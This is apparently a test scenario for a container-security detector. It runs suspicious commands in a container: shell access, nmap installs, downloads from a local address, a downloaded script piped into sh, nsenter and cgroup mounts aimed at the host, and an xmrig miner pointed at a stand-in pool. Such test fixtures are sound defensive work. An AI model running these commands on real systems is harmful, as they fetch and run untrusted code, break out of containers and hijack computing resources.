// Commands that no service needs in a running container: a shell, a package manager, downloads, also by their paths and through a shell, a way
// into the host, a miner; and a container that is there to mine.
import { end, execute, start } from '../support/containers.mjs';

/** @type {import('../record.mjs').Scenario} */
export async function run(docker) {
  const web = await start(docker, 'web', { Labels: { team: 'storefront' } });
  await execute(web, ['sh'], { Tty: true, input: 'id\nexit\n' });
  await execute(web, ['dpkg', '-i', '/tmp/nmap.deb']);
  await execute(web, ['wget', '-O', '/tmp/tool', 'http://127.0.0.1:9/tool']);
  await execute(web, ['/bin/wget', '-q', 'http://127.0.0.1:9/tool']);
  await execute(web, ['sh', '-c', 'wget -qO- http://127.0.0.1:9/install.sh | sh']);
  // There are no such programs in the image, which who asks for them learns afterwards.
  for (const command of [
    ['apk', 'add', 'nmap'],
    ['apt-get', 'install', '-y', 'nmap'],
    ['nsenter', '-t', '1', '-m', 'id'],
    ['mount', '-t', 'cgroup', 'cgroup', '/tmp'],
    ['/tmp/xmrig', '-o', 'stratum+tcp://pool.example.net:3333'],
    ['curl', '-O', 'http://127.0.0.1:9/tool'],
  ])
    await execute(web, command).catch(() => {});
  await end(web);
  const Cmd = ['echo', 'xmrig', '--donate-level=1', '-o', 'stratum+tcp://pool.example.net:3333'];
  const miner = await start(docker, 'calculator', { Cmd });
  await miner.wait();
  await miner.remove();
}
